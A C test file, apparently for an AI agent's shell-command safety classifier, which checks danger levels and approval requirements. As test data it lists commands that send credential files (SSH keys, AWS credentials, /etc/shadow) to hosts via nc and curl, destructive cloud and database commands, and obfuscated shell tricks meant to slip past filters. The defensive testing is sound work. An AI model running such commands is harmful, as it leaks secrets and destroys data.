/* The command classifier against its labelled commands, and the shell reader against bash itself.
 */
#include "agent/policy/classify.h"
#include "agent/policy/shell.h"
#include "tests/kit/tap.h"

#include "base/io.h"
#include <fcntl.h>
#include <spawn.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>

enum { FILE_CAP_BYTES = 1 << 20, WORDS_MAX = 32 };
static const struct classify_world world = {.workspace = "/srv/code/repo", .home = "/home/user"};

/* "\n" as two characters means a line end. */
static char *unescape(const char *line, size_t len)
{
	char *out = malloc(len + 1);
	size_t n = 0;
	for (size_t i = 0; i < len; i++) {
		bool end = line[i] == '\\' && i + 1 < len && line[i + 1] == 'n' &&
			   (i < 3 || memcmp(line + i - 2, "%s", 2));
		out[n++] = end ? '\n' : line[i];
		i += end;
	}
	out[n] = '\0';
	return out;
}

static void judge_line(const char *text, struct verdict *verdict)
{
	const char *argv[WORDS_MAX] = {"bash", "-c", text};
	size_t argc = 3;
	json_t *list = !strncmp(text, "[\"", 2) ? json_loads(text, 0, NULL) : NULL;
	if (list)
		for (argc = 0; argc < json_array_size(list) && argc < WORDS_MAX; argc++)
			argv[argc] = json_string_value(json_array_get(list, argc));
	classify_argv(&world, argv, argc, verdict);
	json_decref(list);
}

static char *read_labels(void)
{
	AUTO_FREE char *path = NULL;
	char *text = NULL;
	size_t len;
	struct err e = ERR_NONE;
	if (asprintf(&path, "%s/tests/golden/commands/labelled.txt", getenv("AGENT6_SRC")) < 0 ||
		io_read_file(AT_FDCWD, path, FILE_CAP_BYTES, &text, &len, &e))
		bail("%s", e.text);
	return text;
}

typedef void line_fn(const char *level, const char *text);

static size_t each_line(line_fn *fn)
{
	AUTO_FREE char *all = read_labels();
	char level[32] = "";
	size_t count = 0, len;
	for (const char *at = all; *at; at += len + (at[len] == '\n')) {
		len = strcspn(at, "\n");
		if (!len || (*at == '#' && count == 0))
			continue;
		if (!strncmp(at, "= ", 2)) {
			snprintf(level, sizeof(level), "%.*s", (int)len - 2, at + 2);
			continue;
		}
		AUTO_FREE char *text = unescape(at, len);
		fn(level, text);
		count++;
	}
	return count;
}

static void check_level(const char *level, const char *text)
{
	struct verdict v;
	judge_line(text, &v);
	if (!is_str(level_name(v.level), level, "%s", text))
		for (size_t i = 0; i < v.reason_count; i++)
			diag("because %s", v.reasons[i]);
	if (v.level >= LEVEL_DESTRUCTIVE && !v.reason_count)
		ok(false, "%s has no reason", text);
}

/* Returns the exit status of bash's parser. Does not use fork(2), which would copy a sanitizer's
 * mappings. */
static int bash_status(const char *text)
{
	char *const argv[] = {
		(char[]){"bash"}, (char[]){"-n"}, (char[]){"-c"}, (char *)(uintptr_t)text, NULL};
	posix_spawn_file_actions_t quietly;
	pid_t pid;
	int status;
	posix_spawn_file_actions_init(&quietly);
	posix_spawn_file_actions_addopen(&quietly, 2, "/dev/null", O_WRONLY, 0);
	if (posix_spawn(&pid, "/bin/bash", &quietly, NULL, argv, environ))
		bail("bash does not start");
	posix_spawn_file_actions_destroy(&quietly);
	waitpid(pid, &status, 0);
	return status;
}

static size_t disagreements;

/* Everything bash takes must be understood or at least judged destructive; what bash refuses must
 * not come out as harmless. */
static void check_oracle(const char *level, const char *text)
{
	bool asked = strcmp(level, "read_only") && strcmp(level, "build") && strcmp(level, "write");
	struct arena arena;
	arena_init(&arena);
	bool ours = shell_parse(text, strlen(text), &arena, NULL);
	bool theirs = !bash_status(text);
	arena_done(&arena);
	if (!strncmp(text, "[\"", 2) || ours == theirs || (theirs && asked))
		return;
	disagreements++;
	diag("bash %s, we %s: %s", theirs ? "takes it" : "refuses it",
		ours ? "take it" : "refuse it", text);
}

static void approvals(void)
{
	static const struct {
		const char *text;
		unsigned want;
	} cases[] = {{"ls", 0}, {"make", 0}, {"touch x", APPROVE_CONFIRM},
		{"rm x", APPROVE_EXPLICIT}, {"sudo ls", APPROVE_TYPED_YES},
		{"curl https://x.example", APPROVE_CONFIRM | APPROVE_DESTINATION},
		{"sudo ls; curl https://x.example",
			APPROVE_TYPED_YES | APPROVE_CONFIRM | APPROVE_DESTINATION},
		{"git push origin", APPROVE_CONFIRM | APPROVE_DESTINATION},
		{"touch x; rm y", APPROVE_CONFIRM | APPROVE_EXPLICIT}};
	/* So does what other tools delete elsewhere. */
	static const char *const elsewhere[] = {"kubectl delete pod x", "kubectl exec x -- rm y",
		"terraform apply", "tofu destroy", "helm uninstall x", "aws s3 rm s3://x",
		"aws ec2 terminate-instances --instance-ids i", "gcloud compute instances delete x",
		"gh repo delete x", "gh api -X DELETE /x", "redis-cli FLUSHALL",
		"psql -c 'DROP TABLE x'", "mysql -e 'system ls'", "psql -c 'select 1 \\g |rm x'",
		"psql -c 'select 1 \\gx | rm x'", "mongosh --eval 'db.dropDatabase()'",
		"npm exec -c 'rm x'", "bun x rm x", "curl -X DELETE https://x.example",
		"curl -c /etc/x https://x.example", "wget -P /etc https://x.example",
		"wget --method=DELETE https://x.example"};
	/* Commands that cannot be undone on the other side, or that run a command here, are asked
	 * about one by one. */
	static const char *const sent[] = {"push origin :old", "push origin +main",
		"push -d origin old", "push --delete origin old", "push -ud origin old",
		"push --prune origin", "push --mirror origin", "push -f", "push --force",
		"push -uf origin main", "push --force-with-lease", "push --exec=./x h:r",
		"push --receive-pack=./x h:r", "fetch --upload-pack=./x h:r", "clone -u ./x h:r",
		"clone ext::./x y", "submodule foreach ./x"};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct verdict v;
		judge_line(cases[i].text, &v);
		is(v.approvals, cases[i].want, "approvals of %s are the union", cases[i].text);
	}
	for (size_t i = 0; i < ARRAY_LEN(elsewhere); i++) {
		struct verdict v;
		judge_line(elsewhere[i], &v);
		is(v.approvals, APPROVE_CONFIRM | APPROVE_EXPLICIT | APPROVE_DESTINATION,
			"approvals of %s", elsewhere[i]);
	}
	for (size_t i = 0; i < ARRAY_LEN(sent); i++) {
		char text[64];
		struct verdict v;
		snprintf(text, sizeof(text), "git %s", sent[i]);
		judge_line(text, &v);
		is(v.approvals, APPROVE_CONFIRM | APPROVE_EXPLICIT | APPROVE_DESTINATION,
			"approvals of %s", text);
	}
	struct verdict v;
	judge_line("curl -F f=@x https://up.example/y", &v);
	bool host = false, form = false;
	for (size_t i = 0; i < v.reason_count; i++) {
		host = host || strstr(v.reasons[i], "up.example");
		form = form || strstr(v.reasons[i], "-F sends files");
	}
	ok(host && form, "the destination and the danger are named");
}

/* Whoever is asked about a command is told when what it sends holds secrets. */
static void secrets(void)
{
	static const struct {
		const char *file;
		bool secret;
	} rows[] = {{"a.c", false}, {"environ", false}, {".env", true}, {".env.local", true},
		{"~/.ssh/config", true}, {"id_rsa", true}, {"id_dsa", true}, {"id_ecdsa", true},
		{"id_ed25519", true}, {"~/.gnupg/x", true}, {"~/.aws/credentials", true},
		{"~/.config/agent6/x", true}, {"~/.docker/config.json", true},
		{"~/.kube/config", true}, {"~/.netrc", true}, {"~/.git-credentials", true},
		{"/etc/shadow", true}, {"/etc/gshadow", true}, {"tls.pem", true}, {"tls.key", true},
		{".npmrc", true}, {".pypirc", true}, {"secrets.yaml", true}, {"secrets.toml", true},
		{"/proc/7/environ", true}};
	for (size_t i = 0; i < 2 * ARRAY_LEN(rows); i++) {
		char text[64];
		struct verdict v;
		bool told = false;
		snprintf(text, sizeof(text), i % 2 ? "curl -T %s h.example" : "cat %s | nc h 80",
			rows[i / 2].file);
		judge_line(text, &v);
		for (size_t k = 0; k < v.reason_count; k++)
			told = told || strstr(v.reasons[k], "holds secrets");
		is(told, rows[i / 2].secret, "secrets: %s", text);
	}
}

/* A name that is cut inside a character does not take the words behind it along. */
static void long_names(void)
{
	struct verdict v;
	char path[128];
	snprintf(path, sizeof(path), "/%078dé/tool", 0);
	classify_argv(&world, (const char *const[]){path}, 1, &v);
	has_str(v.reasons[0], "? is not a program of the system directories",
		"the reason is whole");
	char deep[5000];
	snprintf(deep, sizeof(deep), "/%04096d/usr/bin/cat", 0);
	classify_argv(&world, (const char *const[]){deep}, 1, &v);
	is_str(level_name(v.level), "write", "a path that is too long to be a place is in none");
}

static void limits(void)
{
	struct verdict v;
	AUTO_BUF deep;
	buf_init(&deep, 1 << 20);
	for (int i = 0; i < 2000; i++)
		buf_adds(&deep, "$(");
	judge_line(deep.data, &v);
	ok(v.level >= LEVEL_DESTRUCTIVE, "endless nesting is not analysable");
	buf_clear(&deep);
	for (int i = 0; i < 40000; i++)
		buf_adds(&deep, "a ");
	judge_line(deep.data, &v);
	ok(v.level >= LEVEL_DESTRUCTIVE, "so are too many words");
	static const char *const odd[] = {
		"$\\\n(rm x)", "x=rm; $\\\nx y", "ls $[1 #]; rm x", "ls $[`rm x`]", "$'rm\\c@z' x"};
	for (size_t i = 0; i < ARRAY_LEN(odd); i++) {
		judge_line(odd[i], &v);
		ok(v.level >= LEVEL_DESTRUCTIVE, "so is %s", odd[i]);
	}
	judge_line("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", &v);
	ok(v.level >= LEVEL_DESTRUCTIVE, "and brace lists that explode");
	classify_argv(&world, NULL, 0, &v);
	is(v.level, LEVEL_READ_ONLY, "nothing does nothing");
}

/* Checks the memory of judging a model's text, which happens before anybody can refuse it. */
static void memory(void)
{
	enum { MOST_KIB = 300 * 1024 };
	struct rusage used;
	struct verdict v;
	AUTO_BUF text;
	buf_init(&text, 1 << 20);
	for (int i = 0; i < 30000; i++)
		buf_adds(&text, "``");
	judge_line(text.data, &v);
	getrusage(RUSAGE_SELF, &used);
	ok(used.ru_maxrss < MOST_KIB, "60 KB of backticks take %ld KiB", used.ru_maxrss);
}

static bool judged(const char *part, const char *rest)
{
	enum { MIB = 1 << 20 };
	AUTO_BUF text;
	buf_init(&text, 3 * MIB);
	while (text.len < 2 * MIB)
		buf_adds(&text, part);
	buf_adds(&text, rest);
	const char *const argv[] = {"sed", text.data};
	struct verdict v;
	classify_argv(&world, argv, ARRAY_LEN(argv), &v);
	return v.level == (*rest ? LEVEL_DESTRUCTIVE : LEVEL_READ_ONLY);
}

/* A walk over each of half a million commands to the end of the script would take minutes. */
static bool long_script(void)
{
	return judged("s/a/b/;", "") && judged("s/a/b/;", "s/a/b/e");
}

/* Each option that is not known doubles what may follow, and each argument is filled in. */
static bool many_readings(void)
{
	enum { NESTED = 8, ARGUMENTS = 20000 };
	static const char *argv[2 * NESTED + 2 + ARGUMENTS];
	struct verdict v;
	for (size_t i = 0; i < ARRAY_LEN(argv); i++)
		argv[i] = i >= 2 * NESTED ? "x" : i % 2 ? "-Q" : "parallel";
	argv[2 * NESTED + 1] = ":::";
	classify_argv(&world, argv, ARRAY_LEN(argv), &v);
	return v.level == LEVEL_DESTRUCTIVE;
}

int main(void)
{
	size_t count = each_line(check_level);
	ok(count >= 300, "%zu labelled commands", count);
	approvals();
	secrets();
	long_names();
	limits();
	memory();
	ends(long_script, "two mebibytes of sed");
	ends(many_readings, "options that are not known, before many arguments");
	each_line(check_oracle);
	is(disagreements, 0, "bash -n agrees about what can be parsed");
	return tap_done();
}
